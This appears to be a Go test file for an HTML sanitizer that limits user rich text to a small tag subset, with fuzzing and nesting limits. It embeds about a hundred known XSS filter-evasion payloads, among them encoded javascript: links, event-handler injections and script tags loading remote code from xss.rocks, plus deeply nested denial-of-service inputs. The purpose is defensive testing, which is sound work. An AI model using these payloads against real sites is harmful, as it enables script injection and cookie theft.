package richtext

import (
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"

	"golang.org/x/net/html"
)

const img1 = ImagePath + "0123456789abcdef0123456789abcdef.jpg"
const img2 = ImagePath + "fedcba9876543210fedcba9876543210.png"

// allowedTags is the whole subset a page may hold.
var allowedTags = []string{"p", "br", "h1", "h2", "h3", "strong", "b", "em", "i", "u", "ul", "ol", "li", "a", "img", "figure"}

// unsafe reports why safe is not in the subset, or "": every tag allowed, no event
// attribute, no attribute but a link's href and rel and an image's src, no dangerous scheme
// at the start of any attribute value after entity decoding (the tokenizer decodes them) with spaces and
// control characters taken out, as browsers do, and no "<script" anywhere in the raw text.
func unsafe(safe string) string {
	if strings.Contains(strings.ToLower(safe), "<script") {
		return "raw <script"
	}
	z := html.NewTokenizer(strings.NewReader(safe))
	for {
		tt := z.Next()
		if tt == html.ErrorToken {
			return ""
		}
		if tt != html.StartTagToken && tt != html.SelfClosingTagToken && tt != html.EndTagToken {
			if tt == html.CommentToken || tt == html.DoctypeToken {
				return "comment or doctype"
			}
			continue
		}
		t := z.Token()
		if !slices.Contains(allowedTags, t.Data) {
			return "tag " + t.Data
		}
		if _, hasSrc := attr(t, "src"); t.Data == "img" && tt != html.EndTagToken && !hasSrc {
			return "image without src"
		}
		for _, a := range t.Attr {
			key := strings.ToLower(a.Key)
			if strings.HasPrefix(key, "on") {
				return "event attribute " + key
			}
			switch {
			case t.Data == "img" && key == "alt":
				continue // plain text, escaped: no address to check
			case t.Data == "a" && (key == "href" || key == "rel"):
			case t.Data == "img" && key == "src":
				if !imageSrc.MatchString(a.Val) {
					return "image from elsewhere " + a.Val
				}
			default:
				return "attribute " + key + " on " + t.Data
			}
			v := strings.Map(func(r rune) rune {
				if r <= ' ' || r == 0x7f {
					return -1
				}
				return r
			}, strings.ToLower(html.UnescapeString(a.Val)))
			// A scheme is where a URL begins; "#javascript:" is a fragment of this page.
			for _, scheme := range []string{"javascript:", "data:", "vbscript:"} {
				if strings.HasPrefix(v, scheme) {
					return "scheme " + scheme + " in " + a.Val
				}
			}
		}
	}
}

// Known filter-evasion vectors, most from OWASP's XSS Filter Evasion Cheat Sheet, a few of
// them aimed at this policy (its images, its links, its rel).
var vectors = []string{
	`<SCRIPT SRC=http://xss.rocks/xss.js></SCRIPT>`,
	`javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+alert(1)//'>`,
	`<IMG SRC="javascript:alert('XSS');">`,
	`<IMG SRC=javascript:alert('XSS')>`,
	`<IMG SRC=JaVaScRiPt:alert('XSS')>`,
	"<IMG SRC=javascript:alert(&quot;XSS&quot;)>",
	"<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
	`<a onmouseover="alert(document.cookie)">xxs link</a>`,
	`<a onmouseover=alert(document.cookie)>xxs link</a>`,
	`<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\>`,
	`<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>`,
	`<IMG SRC=# onmouseover="alert('xxs')">`,
	`<IMG SRC= onmouseover="alert('xxs')">`,
	`<IMG onmouseover="alert('xxs')">`,
	`<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>`,
	`<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">`,
	`<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>`,
	`<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;">x</a>`,
	`<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097">x</a>`,
	`<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29">x</a>`,
	`<a href="jav	ascript:alert('XSS');">x</a>`,
	`<a href="jav&#x09;ascript:alert('XSS');">x</a>`,
	`<a href="jav&#x0A;ascript:alert('XSS');">x</a>`,
	`<a href="jav&#x0D;ascript:alert('XSS');">x</a>`,
	"<a href=\"java\x00script:alert(1)\">x</a>",
	`<a href=" &#14;  javascript:alert('XSS');">x</a>`,
	`<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>`,
	`<BODY onload!#$%&()*~+-_.,:;?@[/|\]^` + "`" + `=alert("XSS")>`,
	`<SCRIPT/SRC="http://xss.rocks/xss.js"></SCRIPT>`,
	`<<SCRIPT>alert("XSS");//\<</SCRIPT>`,
	`<SCRIPT SRC=http://xss.rocks/xss.js?< B >`,
	`<SCRIPT SRC=//xss.rocks/.j>`,
	`<IMG SRC="` + "`" + `javascript:alert('XSS')"`,
	`<iframe src=http://xss.rocks/scriptlet.html <`,
	`</TITLE><SCRIPT>alert("XSS");</SCRIPT>`,
	`<INPUT TYPE="IMAGE" SRC="javascript:alert('XSS');">`,
	`<BODY BACKGROUND="javascript:alert('XSS')">`,
	`<IMG DYNSRC="javascript:alert('XSS')">`,
	`<IMG LOWSRC="javascript:alert('XSS')">`,
	`<STYLE>li {list-style-image: url("javascript:alert('XSS')");}</STYLE><UL><LI>XSS</br>`,
	`<IMG SRC='vbscript:msgbox("XSS")'>`,
	`<a href='vbscript:msgbox("XSS")'>x</a>`,
	`<a href="VBSCRIPT:msgbox(1)">x</a>`,
	`<IMG SRC="livescript:[code]">`,
	`<svg/onload=alert('XSS')>`,
	`<BODY ONLOAD=alert('XSS')>`,
	`<BGSOUND SRC="javascript:alert('XSS');">`,
	`<BR SIZE="&{alert('XSS')}">`,
	`<LINK REL="stylesheet" HREF="javascript:alert('XSS');">`,
	`<LINK REL="stylesheet" HREF="http://xss.rocks/xss.css">`,
	`<STYLE>@import'http://xss.rocks/xss.css';</STYLE>`,
	`<META HTTP-EQUIV="Link" Content="<http://xss.rocks/xss.css>; REL=stylesheet">`,
	`<STYLE>BODY{-moz-binding:url("http://xss.rocks/xssmoz.xml#xss")}</STYLE>`,
	`<STYLE>@im\port'\ja\vasc\ript:alert("XSS")';</STYLE>`,
	`<IMG STYLE="xss:expr/*XSS*/ession(alert('XSS'))">`,
	`<STYLE TYPE="text/javascript">alert('XSS');</STYLE>`,
	`<STYLE>.XSS{background-image:url("javascript:alert('XSS')");}</STYLE><A CLASS=XSS></A>`,
	`<STYLE type="text/css">BODY{background:url("javascript:alert('XSS')")}</STYLE>`,
	`<XSS STYLE="behavior: url(xss.htc);">`,
	`<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert('XSS');">`,
	`<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">`,
	`<IFRAME SRC="javascript:alert('XSS');"></IFRAME>`,
	`<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>`,
	`<FRAMESET><FRAME SRC="javascript:alert('XSS');"></FRAMESET>`,
	`<TABLE BACKGROUND="javascript:alert('XSS')">`,
	`<TABLE><TD BACKGROUND="javascript:alert('XSS')">`,
	`<DIV STYLE="background-image: url(javascript:alert('XSS'))">`,
	`<DIV STYLE="background-image:\0075\0072\006C\0028'\006a\0061\0076\0061\0073\0063\0072\0069\0070\0074\003a\0061\006c\0065\0072\0074\0028.1027\0058.1053\0053\0027\0029'\0029">`,
	`<DIV STYLE="width: expression(alert('XSS'));">`,
	`<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->`,
	`<BASE HREF="javascript:alert('XSS');//">`,
	`<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>`,
	`<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==" type="image/svg+xml" AllowScriptAccess="always"></EMBED>`,
	`<SCRIPT a=">" SRC="httx://xss.rocks/xss.js"></SCRIPT>`,
	`<SCRIPT =">" SRC="httx://xss.rocks/xss.js"></SCRIPT>`,
	`<SCRIPT a=">" '' SRC="httx://xss.rocks/xss.js"></SCRIPT>`,
	`<SCRIPT "a='>'" SRC="httx://xss.rocks/xss.js"></SCRIPT>`,
	`<SCRIPT a=` + "`" + `>` + "`" + ` SRC="httx://xss.rocks/xss.js"></SCRIPT>`,
	`<SCRIPT a=">'>" SRC="httx://xss.rocks/xss.js"></SCRIPT>`,
	`<SCRIPT>document.write("<SCRI");</SCRIPT>PT SRC="httx://xss.rocks/xss.js"></SCRIPT>`,
	`<A HREF="http://66.102.7.147/">XSS</A>`,
	`<A HREF="h
tt	p://6	6.000146.0x7.147/">XSS</A>`,
	`<A HREF="//google">XSS</A>`,
	`<A HREF="javascript:document.location='http://www.google.com/'">XSS</A>`,
	`<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`,
	`<a href="DaTa:text/html,<script>alert(1)</script>">x</a>`,
	`<img src="data:image/png;base64,iVBORw0KGgo=">`,
	`<img src="https://evil.example/x.png">`,
	`<img src="//evil.example` + img1 + `">`,
	`<img src="` + img1 + `?x=1">`,
	`<img src="` + ImagePath + `../../secret.jpg">`,
	`<img src="` + img1 + `" onerror="alert(1)" alt="x" style="x" width="9999">`,
	`<a href="https://ok.example/" rel="opener" target="_blank" onclick="x()">ok</a>`,
	`<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
	`<svg><script>alert(1)</script></svg>`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
	`<form><button formaction="javascript:alert(1)">x</button></form>`,
	`<details open ontoggle=alert(1)>`,
	`<p style="background:url(javascript:alert(1))" class="x" id="y">text</p>`,
	`<video><source onerror="alert(1)"></video>`,
	`<a href="java&NewLine;script:alert(1)">x</a>`,
	`<a href="java&Tab;script&colon;alert(1)">x</a>`,
	`<a href="&#x2F;&#x2F;evil">x</a>`,
	`<a href="mailto:prodaja@vitrina.me">mail</a>`,
}

func TestKnownVectorsComeOutSafe(t *testing.T) {
	s := New()
	for i, v := range vectors {
		out := s.Sanitize(v, nil)
		if why := unsafe(out); why != "" {
			t.Errorf("vector %d %q\n  gave %q: %s", i, v, out, why)
		}
		// Sanitising safe output again changes nothing.
		if again := s.Sanitize(out, nil); again != out {
			t.Errorf("vector %d not stable: %q then %q", i, out, again)
		}
	}
}

func TestTheSubsetPassesThrough(t *testing.T) {
	s := New()
	cases := []struct{ in, want string }{
		{`<h1>Naslov</h1><h2>Pod</h2><h3>Treći</h3><h4>Četvrti</h4>`, `<h1>Naslov</h1><h2>Pod</h2><h3>Treći</h3>Četvrti`},
		{`<p>Jedan<br>dva <strong>b</strong> <b>b</b> <em>i</em> <i>i</i> <u>u</u></p>`, `<p>Jedan<br>dva <strong>b</strong> <b>b</b> <em>i</em> <i>i</i> <u>u</u></p>`},
		{`<ul><li>a</li></ul><ol><li>b</li></ol>`, `<ul><li>a</li></ul><ol><li>b</li></ol>`},
		{`<a href="https://vitrina.me/akcija">x</a>`, `<a href="https://vitrina.me/akcija" rel="noopener noreferrer">x</a>`},
		{`<a href="/sliders/7">x</a>`, `<a href="/sliders/7" rel="noopener noreferrer">x</a>`},
		{`<a href="mailto:prodaja@vitrina.me" rel="opener">x</a>`, `<a href="mailto:prodaja@vitrina.me" rel="noopener noreferrer">x</a>`},
		{`<a href="ftp://x/">x</a><a>bare</a>`, `xbare`},
		{`<p><img src="` + img1 + `" alt="Akcija"></p>`, `<p><img src="` + img1 + `" alt="Akcija"></p>`},
		{`<figure><img src="` + img1 + `" alt="Zimska &#34;akcija&#34;" title="x"></figure>`, `<figure><img src="` + img1 + `" alt="Zimska &#34;akcija&#34;"></figure>`},
		{`<figure class="x"><img src="https://evil.example/a.jpg" alt="a"><figcaption>c</figcaption></figure>`, `<figure>c</figure>`},
		{`<p><img src="` + img1 + `" alt="x" onerror="alert(1)" alt2="y"></p>`, `<p><img src="` + img1 + `" alt="x"></p>`},
		{`<p><img src="https://evil.example/a.jpg">tekst</p>`, `<p>tekst</p>`},
		{`<p class="x" style="color:red" onclick="y()">t</p>`, `<p>t</p>`},
		{`<script>alert(1)</script><style>p{}</style><iframe src="/x"></iframe>ok`, `ok`},
		{`<p>5 &lt; 6 &amp; "navodnici" rel="noreferrer"</p>`, `<p>5 &lt; 6 &amp; &#34;navodnici&#34; rel=&#34;noreferrer&#34;</p>`},
		{`<p>javascript:alert(1) ostaje tekst</p>`, `<p>javascript:alert(1) ostaje tekst</p>`},
		{`<div><span>Tekst</span></div>`, `Tekst`},
	}
	for _, c := range cases {
		if got := s.Sanitize(c.in, nil); got != c.want {
			t.Errorf("%q\n  got  %q\n  want %q", c.in, got, c.want)
		}
	}
}

func TestDropAndListImages(t *testing.T) {
	s := New()
	raw := fmt.Sprintf(`<p>a<img src="%s">b<img src="%s"/><img src="https://evil.example/x.jpg"></p>`, img1, img2)
	safe := s.Sanitize(raw, nil)
	if got := s.Images(safe); !slices.Equal(got, []string{img1, img2}) {
		t.Fatalf("images %v of %q", got, safe)
	}
	kept := s.Sanitize(raw, func(src string) bool { return src == img1 })
	if got := s.Images(kept); !slices.Equal(got, []string{img2}) || !strings.Contains(kept, "<p>ab") {
		t.Fatalf("drop %q -> %v", kept, got)
	}
	// Dropping goes through the policy again: a drop function cannot let anything in.
	if why := unsafe(s.Sanitize(vectors[1], func(string) bool { return false })); why != "" {
		t.Fatal(why)
	}
	if s.Images("") != nil || s.Sanitize("", nil) != "" {
		t.Fatal("empty")
	}
}

func TestCheckerCatchesWhatItMust(t *testing.T) {
	// The fuzz target's check is only as good as this: each of these is unsafe.
	for _, bad := range []string{
		`<script>x</script>`, `<p onclick="x">`, `<a href="javascript:x">`, `<a href="java&#x09;script:x">`,
		`<a href=" data:text/html,x">`, `<a href="VbScRiPt:x">`, `<img src="https://evil/x.jpg">`, `<p style="x">`,
		`<iframe>`, `<!-- x -->`, `&lt;<SCRIPT`,
	} {
		if unsafe(bad) == "" {
			t.Errorf("%q passed the check", bad)
		}
	}
	if why := unsafe(`<p>javascript: &lt;script&gt; onload=x</p><a href="/x" rel="noopener noreferrer">y</a>`); why != "" {
		t.Errorf("text is not markup: %s", why)
	}
}

// FuzzSanitize feeds the policy any text: what comes out never holds a script, an event
// attribute or a dangerous scheme (go tool task fuzz).
func FuzzSanitize(f *testing.F) {
	for _, v := range vectors {
		f.Add(v)
	}
	f.Add(`<p>Dobro došli <a href="https://vitrina.me">na akciju</a><img src="` + img1 + `"></p>`)
	s := New()
	f.Fuzz(func(t *testing.T, raw string) {
		out := s.Sanitize(raw, nil)
		if why := unsafe(out); why != "" {
			t.Fatalf("%q gave %q: %s", raw, out, why)
		}
		if why := balanced(out); why != "" || depthOf(out) > MaxDepth {
			t.Fatalf("%q gave %q: %s, depth %d", raw, out, why, depthOf(out))
		}
		dropped := s.Sanitize(raw, func(src string) bool { return src == img1 })
		if why := unsafe(dropped); why != "" || slices.Contains(s.Images(dropped), img1) {
			t.Fatalf("%q with a drop gave %q: %s", raw, dropped, why)
		}
	})
}

// balanced reports why s is not balanced markup, or "": every element but br and img is
// closed, in the order it was opened.
func balanced(s string) string {
	var open []string
	z := html.NewTokenizer(strings.NewReader(s))
	for {
		tt := z.Next()
		switch tt {
		case html.ErrorToken:
			if len(open) > 0 {
				return "unclosed " + strings.Join(open, ",")
			}
			return ""
		case html.StartTagToken:
			name, _ := z.TagName()
			if n := string(name); n != "br" && n != "img" {
				open = append(open, n)
			}
		case html.SelfClosingTagToken:
			if name, _ := z.TagName(); string(name) != "br" && string(name) != "img" {
				return "self-closed " + string(name)
			}
		case html.EndTagToken:
			name, _ := z.TagName()
			if len(open) == 0 || open[len(open)-1] != string(name) {
				return "stray </" + string(name) + ">"
			}
			open = open[:len(open)-1]
		}
	}
}

// depthOf is how deeply s's elements nest.
func depthOf(s string) int {
	depth, deepest := 0, 0
	z := html.NewTokenizer(strings.NewReader(s))
	for {
		switch z.Next() {
		case html.ErrorToken:
			return deepest
		case html.StartTagToken:
			if name, _ := z.TagName(); string(name) != "br" && string(name) != "img" {
				depth++
				deepest = max(deepest, depth)
			}
		case html.EndTagToken:
			depth--
		}
	}
}

// The policy's output is written again balanced, as a browser parses it (issue 20): an app
// that puts the page inside its own HTML is not broken by an unclosed link or stray end tags.
func TestMarkupComesOutBalanced(t *testing.T) {
	s := New()
	cases := []struct{ in, want string }{
		{`<a href="https://vitrina.me/akcija">click`, `<a href="https://vitrina.me/akcija" rel="noopener noreferrer">click</a>`},
		{`tekst</p></li></ul>`, `tekst<p></p>`},
		{`</li></ul>kraj`, `kraj`},
		{`<p>jedan<p>dva`, `<p>jedan</p><p>dva</p>`},
		{`<ul><li>a<li>b</ul>`, `<ul><li>a</li><li>b</li></ul>`},
		{`<b><i>x</b>y</i>`, `<b><i>x</i></b><i>y</i>`},
		{`<h1>naslov`, `<h1>naslov</h1>`},
		{`<p>a<br/>b<img src="` + img1 + `"/></p>`, `<p>a<br>b<img src="` + img1 + `"></p>`},
		{`<p>5 &lt; 6 &amp; "x" 'y'</p>`, `<p>5 &lt; 6 &amp; &#34;x&#34; &#39;y&#39;</p>`},
		{`samo tekst &amp; <još>`, `samo tekst &amp; `},
	}
	for _, c := range cases {
		got := s.Sanitize(c.in, nil)
		if got != c.want {
			t.Errorf("%q\n  got  %q\n  want %q", c.in, got, c.want)
		}
		if why := balanced(got); why != "" {
			t.Errorf("%q gave %q: %s", c.in, got, why)
		}
	}
}

// Elements nest at most MaxDepth deep: deeper ones are left out and their text kept, so
// 20,000 nested lists become a flat run of items (issue 20), quickly.
func TestNestingIsBounded(t *testing.T) {
	s := New()
	const n = 20000
	raw := strings.Repeat("<ul><li>x", n) + strings.Repeat("</li></ul>", n)
	start := time.Now()
	out := s.Sanitize(raw, nil)
	if d := depthOf(out); d != MaxDepth {
		t.Fatalf("depth %d, want %d", d, MaxDepth)
	}
	if why := balanced(out); why != "" {
		t.Fatal(why)
	}
	if got := strings.Count(out, "x"); got != n {
		t.Fatalf("%d of %d items' text kept", got, n)
	}
	if again := s.Sanitize(out, nil); again != out {
		t.Fatal("the flattened page is not stable")
	}
	// The editor's own depth is kept as it is.
	five := strings.Repeat("<ul><li>a", 5) + strings.Repeat("</li></ul>", 5)
	if got := s.Sanitize("<p><strong><em>"+five+"</em></strong></p>", nil); depthOf(got) != 12 {
		t.Fatalf("depth of %q", got)
	}
	// The worst a 200,000-byte page can do to the parser (nested, misnested and formatting
	// elements) stays fast.
	for _, hostile := range []string{
		raw[:200000],
		strings.Repeat("<b>", 66000),
		strings.Repeat("<b><i><u><em><strong>", 9000),
		strings.Repeat("<a href=/x>", 18000),
		strings.Repeat("<p><b>x</p>", 18000),
		strings.Repeat("<li>", 50000),
		strings.Repeat("<h1><h2><h3>", 16000),
	} {
		out := s.Sanitize(hostile, nil)
		if why := balanced(out); why != "" || depthOf(out) > MaxDepth {
			t.Fatalf("%.40q…: %s, depth %d", hostile, why, depthOf(out))
		}
	}
	if took := time.Since(start); took > 10*time.Second {
		t.Fatalf("took %v", took)
	}
}
